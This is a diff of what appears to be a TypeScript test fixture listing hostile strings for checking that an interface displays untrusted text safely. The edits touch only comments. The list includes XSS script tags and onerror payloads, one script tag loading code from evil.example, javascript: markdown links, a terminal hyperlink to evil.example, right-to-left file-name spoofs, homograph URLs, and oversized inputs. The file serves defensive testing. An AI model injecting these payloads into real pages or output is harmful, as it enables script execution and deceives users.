@@ -1,10 +1,13 @@
-/** What an agent, a tool or a server may send to disguise, to break out, to call home or to freeze. */
+/**
+ * Texts that an agent, a tool or a server may send to disguise content, to break out of the page, to make requests or
+ * to freeze it.
+ */
 
 const frames = (text: string): string => `\u001B]8;;https://evil.example\u0007${text}\u001B]8;;\u0007`;
 
-/** Each is shown in every place that shows text. */
+/** Each of them is shown in every place that shows text. */
 export const hostileTexts: readonly string[] = [
-  // Script and markup.
+  // Scripts and markup.
   '<script>window.hacked = 1</script>',
   '<script src="https://evil.example/x.js"></script>',
   '<img src=x onerror="window.hacked=1">',
@@ -28,7 +31,7 @@ export const hostileTexts: readonly string[] = [
   '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} #{window.hacked=1}',
   '<!--><img src=x onerror="window.hacked=1">-->',
   '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;',
-  // Markdown that leads elsewhere.
+  // Markdown with links to other targets.
   '[click](javascript:window.hacked=1)',
   '[click](JaVaScRiPt:window.hacked=1)',
   '[click](java\tscript:window.hacked=1)',
@@ -50,7 +53,7 @@ export const hostileTexts: readonly string[] = [
   '```<script>window.hacked=1</script>\n</pre></code><img src=x onerror=window.hacked=1>\n```',
   'https://evil.example\u202Emoc.elgoog',
   'http://xn--pple-43d.com http://аpple.com',
-  // Disguise.
+  // Disguised text.
   '\u202Egnp.exe\u202C',
   '\u2066\u2067hidden\u2069\u2069',
   'a\u200Bb\u2060c\uFEFFd\u00ADe',
@@ -61,7 +64,7 @@ export const hostileTexts: readonly string[] = [
   '\uD800 lone \uDFFF surrogates',
   `z${'\u0301'.repeat(2000)}algo`,
   'over\rwritten\r\nlines\u2028and\u2029paragraphs',
-  // Size and depth.
+  // Size and nesting depth.
   'w'.repeat(60_000),
   '\u202E'.repeat(3000),
   `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
